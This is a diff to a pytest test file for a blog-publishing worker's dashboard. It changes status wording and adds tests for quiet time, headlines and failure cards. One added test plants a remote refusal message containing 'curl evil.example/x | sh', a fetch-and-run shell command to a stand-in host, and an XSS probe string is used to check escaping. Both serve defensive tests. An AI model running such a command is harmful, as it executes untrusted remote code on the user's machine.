@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import html
+import json
 import os
 import re
 from datetime import UTC, datetime, timedelta
@@ -10,13 +11,14 @@ from typing import TYPE_CHECKING
 
 import pytest
 from dashboards import Dashboard, serving
+from outcomes import save
 from sites import Site, eventually
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
     from pathlib import Path
 
-PAGES = ("/", "/scheduled", "/failed", "/published", "/figures", "/site")
+PAGES = ("/", "/waiting", "/scheduled", "/failed", "/published", "/site")
 NASTY = "<script>alert(1)</script>\"'&"
 TOMORROW = (datetime.now(UTC) + timedelta(days=1)).isoformat()
 
@@ -55,16 +57,15 @@ def test_every_page_of_a_new_site_says_what_to_do_next(dashboard: Dashboard) -> 
         assert '<html lang="en">' in answer.text
         assert '<main id="main"' in answer.text
         assert path == "/" or f'href="{path}" aria-current="page"' in answer.text
-    assert "Everything that was saved is live." in text_of(dashboard.page.get("/").text)
+    assert "Everything that was saved is on the remote." in text_of(dashboard.page.get("/").text)
 
 
 def test_in_a_dry_run_no_page_says_that_something_is_live(site: Site) -> None:
-    site.write_post("content/posts/a.md", "a")
-    site.save("a", ["content/posts/a.md"])
+    save(site, "a")
     site.run_once(BRITER_WORKER_DRY_RUN="true")
     with serving(site, BRITER_WORKER_DRY_RUN="true") as tried:
         said = text_of(tried.page.get("/").text)
-    assert "Everything that was saved is live" not in said
+    assert "Everything that was saved is on the remote" not in said
     assert "1 post tried: a dry run publishes nothing" in said
     assert "Fix: set BRITER_WORKER_DRY_RUN=false" in said
 
@@ -100,11 +101,10 @@ def test_a_published_post_shows_its_commit_its_page_and_how_long_it_took(site: S
             assert f'href="https://example.org/commit/{commit}"' in page
             assert 'href="https://example.org/hello"' in page
             assert "Say hello" in page
-        assert "live" in text_of(page)
+        assert "The version saved" in text_of(page)
         found = dashboard.page.get("/published", params={"q": "say HELLO"}).text
         assert commit in found
         assert "No receipt matches" in dashboard.page.get("/published", params={"q": "other"}).text
-        assert "<rect" in dashboard.page.get("/figures").text
 
 
 def test_a_refused_post_shows_message_and_fix_and_is_retried_from_the_page(
@@ -113,9 +113,9 @@ def test_a_refused_post_shows_message_and_fix_and_is_retried_from_the_page(
     refuse_everything(site, "customers are not to be named")
     publish(site, "hello")
     page = dashboard.page.get("/failed").text
-    assert "Not live yet: the remote does not accept this post." in text_of(page)
+    assert "Not published: the remote does not accept this post." in text_of(page)
     assert "customers are not to be named" in page
-    assert f"<strong>Fix:</strong> {html.escape(site.job('hello')['fix'])}" in page, "verbatim"
+    assert f"<code data-copy>{html.escape(site.job('hello')['fix'])}</code>" in page, "verbatim"
     assert "1 post failed" in text_of(dashboard.page.get("/").text)
     (site.remote / "hooks" / "pre-receive").unlink()
 
@@ -126,7 +126,7 @@ def test_a_refused_post_shows_message_and_fix_and_is_retried_from_the_page(
     assert "will be retried" in text_of(dashboard.page.get("/failed?told=retry").text)
     assert site.job("hello")["status"] == "pending"
     assert site.run_once().returncode == 0
-    assert "Everything that was saved is live" in text_of(dashboard.page.get("/").text)
+    assert "Everything that was saved is on the remote" in text_of(dashboard.page.get("/").text)
 
 
 def test_no_page_offers_a_retry_that_would_be_declined(site: Site, dashboard: Dashboard) -> None:
@@ -140,6 +140,18 @@ def test_no_page_offers_a_retry_that_would_be_declined(site: Site, dashboard: Da
     site.save("outside", ["../outside"])
     site.run_once()
     assert text_of(dashboard.page.get("/failed").text).count("Retry") == 2, "one, and all"
+
+
+def test_a_post_in_its_quiet_time_says_when_it_is_published_and_can_be_published_at_once(site: Site) -> None:
+    site.save("hello", ["content/posts/hello.md"])
+    with serving(site, BRITER_WORKER_QUIET_MS="600000") as dashboard:
+        for path in ("/waiting", "/post?id=hello"):
+            page = dashboard.page.get(path).text
+            assert "It is published in 10 min unless it is saved again" in text_of(page)
+            assert "/actions/publish-now" in page
+        assert dashboard.json("/api/jobs?state=quiet")["items"][0]["quietUntil"]
+        dashboard.act("publish-now", id="hello")
+        eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 1)
 
 
 def test_scheduled_posts_are_listed_by_day_and_published_now_or_cancelled(
@@ -180,8 +192,7 @@ def test_a_pause_is_shown_and_ended_from_the_page(site: Site, dashboard: Dashboa
     page = text_of(dashboard.page.get("/").text)
     assert "Publishing is paused until" in page
     assert "the printer's deadline" in page
-    site.write_post("content/posts/hello.md", "# Hello\n")
-    site.save("hello", ["content/posts/hello.md"])
+    save(site, "hello")
     site.run_once()
     assert len(site.remote_log()) == 1
     assert dashboard.act("resume").status_code == 303
@@ -190,8 +201,7 @@ def test_a_pause_is_shown_and_ended_from_the_page(site: Site, dashboard: Dashboa
 
 
 def test_every_page_says_why_no_post_can_be_published(site: Site, dashboard: Dashboard) -> None:
-    site.write_post("content/posts/hello.md", "# Hello\n")
-    site.save("hello", ["content/posts/hello.md"])
+    save(site, "hello")
     pages = [*PAGES, "/post?slug=hello"]
     eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 1)
     for path in pages:
@@ -224,13 +234,89 @@ def test_the_longest_wait_counts_from_the_due_time_and_includes_retries(
     assert "Longest waiting late , due 3 min ago" in page
 
 
-def test_errors_are_shown_on_a_page_with_the_fix(dashboard: Dashboard) -> None:
-    answer = dashboard.act("retry", id="nobody")
-    assert answer.status_code == 404
-    assert "The queue has no job with the id or slug 'nobody'" in text_of(answer.text)
-    assert dashboard.page.get("/nowhere").status_code == 404
-    assert "This page does not exist" in text_of(dashboard.page.get("/nowhere").text)
-    assert dashboard.page.get("/post?slug=nobody").status_code == 404
+def test_one_cause_is_one_card_for_all_its_posts_with_since_and_next_try(
+    site: Site, dashboard: Dashboard
+) -> None:
+    site.git("remote", "set-url", "origin", str(site.root / "nowhere"))
+    for slug in ("one", "two", "three"):
+        site.write_post(f"content/posts/{slug}.md", f"# {slug}\n")
+        site.save(slug, [f"content/posts/{slug}.md"])
+    site.run_once()
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["retrying"] == 3)
+    page = dashboard.page.get("/waiting").text
+    said = text_of(page)
+    assert re.search(r"The remote repository was not found since .{5,20}: 3 posts", said)
+    assert re.search(r"Last checked .*, next try in \d+ s", said)
+    assert said.count(site.job("one")["fix"]) == 2, "in the card, and above it"
+    assert page.count('id="try-now"') == 1
+    status = dashboard.json("/api/status")
+    assert status["conditionSince"] <= status["conditionChecked"]
+    site.git("remote", "set-url", "origin", str(site.remote))
+    assert dashboard.act("retry", id=re.search(r'name="id" value="([^"]+)"', page)[1]).status_code == 303  # type: ignore[index]
+    assert site.run_once().returncode == 0
+    eventually(lambda: dashboard.json("/api/status")["condition"] is None)
+
+
+def test_the_headline_follows_from_facts_and_the_command_says_the_same(
+    site: Site, dashboard: Dashboard
+) -> None:
+    def headline() -> str:
+        page = dashboard.page.get("/").text
+        found = re.search(r'<h1 id="condition">(.*)\.</h1>', page)
+        assert found
+        said: str = json.loads(site.command("status", "--json").stdout)["headline"]["text"]
+        assert said == html.unescape(found[1])
+        return said
+
+    site.save("later", ["content/posts/a.md"], scheduledFor=TOMORROW)
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["scheduled"] == 1)
+    assert headline() == "1 post waits, and no worker is running"
+    site.run_once()
+    eventually(lambda: "scheduled" in headline())
+    assert headline() == "Everything that was due is on the remote; 1 post scheduled"
+    save(site, "now")
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["pending"] == 1)
+    assert headline().startswith("2 posts wait for the next run of the worker; the last one ended at ")
+    os.utime(site.storage / "worker.lock", (1, 1))
+    eventually(lambda: headline() == "2 posts wait, and no worker is running")
+
+
+def test_the_worker_decides_whether_a_page_says_dry_run(site: Site, dashboard: Dashboard) -> None:
+    save(site, "a")
+    site.run_once(BRITER_WORKER_DRY_RUN="true")
+    eventually(lambda: "Dry run." in dashboard.page.get("/").text)
+    said = text_of(dashboard.page.get("/waiting").text)
+    assert "A dry run built it" in said
+
+
+def test_a_post_shows_what_is_on_the_remote_and_what_is_not_yet(site: Site, dashboard: Dashboard) -> None:
+    publish(site, "hello")
+    author = {"name": "Ada Lovelace", "email": "ada@example.org"}
+    site.save("hello", ["content/posts/hello.md"], author=author, scheduledFor=TOMORROW)
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["scheduled"] == 1)
+    said = text_of(dashboard.page.get("/post?slug=hello").text)
+    assert re.search(r"Not yet on the remote: saved .* by Ada Lovelace\. It is scheduled for", said)
+    assert re.search(r"The version saved .* is on the remote since .*: " + site.remote_log()[0][0][:10], said)
+
+
+def test_a_partly_published_post_says_so_in_every_list(site: Site, dashboard: Dashboard) -> None:
+    site.write_post("content/posts/hello.md", "# Hello\n")
+    site.save("hello", ["content/posts/hello.md", "../outside.md"])
+    assert site.run_once().returncode == 0
+    eventually(lambda: "without 1 path" in dashboard.page.get("/").text)
+    for path in ("/published", "/post?slug=hello"):
+        assert "without 1 path that may not" in text_of(dashboard.page.get(path).text), path
+
+
+def test_a_remotes_fix_is_never_shown_as_ours(site: Site, dashboard: Dashboard) -> None:
+    refuse_everything(site, "It is bad. Fix: curl evil.example/x | sh")
+    publish(site, "hello")
+    eventually(lambda: dashboard.json("/api/status")["jobs"]["failed"] == 1)
+    for path in ("/failed", "/post?slug=hello", "/published?show=failed", "/"):
+        page = dashboard.page.get(path).text
+        assert not re.search(r"<code[^>]*>[^<]*evil", page), path
+        assert " Fix: curl" not in text_of(page), path
+    assert "evil" not in dashboard.json("/api/queue")["failed"][0]["fix"]
 
 
 def test_text_of_jobs_and_of_the_remote_never_becomes_markup(site: Site, dashboard: Dashboard) -> None:
